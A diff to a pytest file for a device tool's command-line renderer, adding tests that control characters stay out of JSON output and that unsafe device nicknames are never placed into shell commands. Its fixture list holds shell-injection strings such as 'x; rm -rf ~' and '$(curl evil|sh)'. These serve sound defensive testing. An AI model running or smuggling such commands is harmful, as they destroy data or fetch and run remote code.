@@ -1,11 +1,13 @@
 """What reaches a terminal: sizes and ages as people read them, and nothing that commands it."""
 
 import json
+import shlex
 
 import pytest
 
 from node.cli.render import (
     Screen,
+    as_argument,
     describe_error,
     format_address,
     format_age,
@@ -51,6 +53,27 @@ def test_what_other_devices_wrote_does_not_command_the_terminal(hostile: str) ->
     assert not set(shown) & set("\x1b\x9b\x07\r\x00\u202e\u2028")
     assert shown.startswith("before ")
     assert shown.endswith(" after")
+
+
+@pytest.mark.parametrize("hostile", ["\x7f", "\x9b31m", "\u202ecod.exe", "\u2066", "\u2028", "\ud800"])
+def test_nor_does_it_in_json(hostile: str, capsys: pytest.CaptureFixture[str]) -> None:
+    Screen(json_wanted=True).facts({"file": hostile, hostile: 1})
+    said = capsys.readouterr().out
+    assert hostile not in said
+    assert json.loads(said) == {"schema": 1, "file": hostile, hostile: 1}
+
+
+@pytest.mark.parametrize("nickname", ["kitchen", "Küche", "mac-mini_2.local", "Anns Mac"])
+def test_a_plain_nickname_names_a_device_in_a_command(nickname: str) -> None:
+    assert shlex.split(f"tilenode link disable {as_argument(nickname, 'DID')}")[3:] == [nickname]
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ["x; rm -rf ~", "$(curl evil|sh)", "`id`", "a&b", "--help", "-x", "it's", "a\nb", "~", "*", "", "x\u00a0y", "!!"],
+)
+def test_a_nickname_that_a_shell_would_act_on_is_not_put_into_a_command(hostile: str) -> None:
+    assert as_argument(hostile, "did:key:z6Mk") == "did:key:z6Mk"
 
 
 def test_ordinary_text_is_shown_as_it_is() -> None:
